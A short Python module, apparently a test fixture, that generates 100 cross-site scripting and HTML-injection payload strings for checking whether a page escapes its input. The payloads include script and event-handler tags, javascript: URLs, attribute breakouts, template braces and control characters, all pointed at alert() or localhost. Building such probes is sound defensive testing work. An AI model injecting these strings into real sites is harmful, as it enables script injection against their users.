"""A hundred texts that would do something in a page that is not careful with them."""

from itertools import islice, product

TAGS = (
    "<script>alert({n})</script>",
    "<img src=x{n} onerror=alert({n})>",
    "<svg onload=alert({n})>",
    "</title><script>alert({n})</script>",
    "</pre></p></div><iframe src=javascript:alert({n})></iframe>",
    '" onmouseover="alert({n})" x="',
    "' autofocus onfocus='alert({n})",
    "<a href=javascript:alert({n})>x</a>",
    "<style>@import url(http://127.0.0.1:9/{n})</style>",
    "<link rel=stylesheet href=http://127.0.0.1:9/{n}>",
    "<meta http-equiv=refresh content=0;url=http://127.0.0.1:9/{n}>",
    "<base href=http://127.0.0.1:9/{n}>",
    "<form action=http://127.0.0.1:9/{n}><button>x",
    "<object data=http://127.0.0.1:9/{n}></object>",
    "<details open ontoggle=alert({n})>",
    "{{{{ 7 * {n} }}}}{{% for x in [] %}}",
    "<!--{n}--><![CDATA[ ]]>",
    "&lt;script&gt;alert({n})&lt;/script&gt;",
    "<math><mtext></math><img src=http://127.0.0.1:9/{n}>",
    "<template><script>alert({n})</script></template>",
)
WRAPPED = ("{}", "</svg>{}", "\u202e{}\u2066", "x\ud800\x00\x1b[31m{}", "</style></script>{}")

PAYLOADS = [
    wrap.format(tag.format(n=number))
    for number, (wrap, tag) in enumerate(islice(product(WRAPPED, TAGS), 100))
]
assert len(set(PAYLOADS)) == 100
